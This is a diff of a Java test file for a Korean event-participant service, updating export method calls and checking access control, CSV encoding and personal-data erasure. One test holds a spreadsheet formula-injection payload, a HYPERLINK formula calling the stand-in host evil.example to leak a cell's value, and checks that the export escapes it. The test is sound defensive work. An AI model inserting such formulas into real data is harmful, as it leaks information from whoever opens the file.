@@ -162,7 +162,7 @@ class PeopleServicesTest {
         assertThat(seen.email()).isNull();
         assertThatThrownBy(() -> signedIn.run(guest, () -> participants.create(id, person("몰래"))))
                 .isInstanceOf(AccessDeniedException.class);
-        assertThatThrownBy(() -> signedIn.run(guest, () -> participantCsv.exportCsv(id)))
+        assertThatThrownBy(() -> signedIn.run(guest, () -> participantCsv.exportCsv(id, null)))
                 .isInstanceOf(AccessDeniedException.class);
     }
 
@@ -191,8 +191,8 @@ class PeopleServicesTest {
                 () -> participants.addWalkIn(id, "x", null, null),
                 () -> participantCsv.previewImport(id, csv),
                 () -> participantCsv.importCsv(id, csv),
-                () -> participantCsv.exportCsv(id),
-                () -> participants.exportPerson(id, pid),
+                () -> participantCsv.exportCsv(id, null),
+                () -> participants.exportPerson(id, pid, null),
                 () -> participants.erasePerson(id, pid),
                 () -> participants.personalDataLog(id),
                 () -> participants.canEdit(id),
@@ -329,7 +329,7 @@ class PeopleServicesTest {
             participants.create(id, new ParticipantDraft("홍길동, 주니어", "010-1234-5678", "hong@x.kr",
                     ParticipantGroup.PRESENTER, AttendanceStatus.CONFIRMED, PhotoConsent.GRANTED, "휠체어",
                     "채식", "따옴표 \"포함\""));
-            byte[] csv = participantCsv.exportCsv(id);
+            byte[] csv = participantCsv.exportCsv(id, null);
             assertThat(csv[0]).isEqualTo((byte) 0xEF);
             assertThat(csv[1]).isEqualTo((byte) 0xBB);
             assertThat(csv[2]).isEqualTo((byte) 0xBF);
@@ -385,7 +385,7 @@ class PeopleServicesTest {
         String formula = "=HYPERLINK(\"http://evil.example/?\"&B2,\"클릭\")";
         signedIn.run(owner, () -> {
             participants.create(id, ParticipantDraft.named(formula).withContacts("+82 10-1234-5678", null));
-            byte[] csv = participantCsv.exportCsv(id);
+            byte[] csv = participantCsv.exportCsv(id, null);
             String text = new String(csv, StandardCharsets.UTF_8);
             assertThat(text).contains("\"'=HYPERLINK(").contains(",'+82 10-1234-5678,").doesNotContain(",=");
 
@@ -494,7 +494,7 @@ class PeopleServicesTest {
                     UserFacingException.class, e -> assertThat(e.messageKeys())
                             .containsExactly("people.erase.error.exportFirst"));
             assertThat(participants.list(id).get(0).anonymised()).isFalse();
-            String export = kr.silheomjang.support.Zips.unzip(participants.exportPerson(id, pid)).get("people-participant.csv");
+            String export = kr.silheomjang.support.Zips.unzip(participants.exportPerson(id, pid, null)).get("people-participant.csv");
             assertThat(export).contains("지워줘요").contains("010-9876-5432").contains("erase@x.kr");
             participants.erasePerson(id, pid);
             ParticipantRow row = participants.list(id).get(0);
@@ -508,7 +508,7 @@ class PeopleServicesTest {
                 assertThat(l.actorName()).isEqualTo("담당자");
                 assertThat(l.subject()).doesNotContain("지워줘요").doesNotContain("erase@x.kr");
             });
-            assertThatThrownBy(() -> participants.exportPerson(id, pid)).isInstanceOf(UserFacingException.class);
+            assertThatThrownBy(() -> participants.exportPerson(id, pid, null)).isInstanceOf(UserFacingException.class);
             assertThatThrownBy(() -> participants.erasePerson(id, pid)).isInstanceOf(UserFacingException.class);
         });
     }
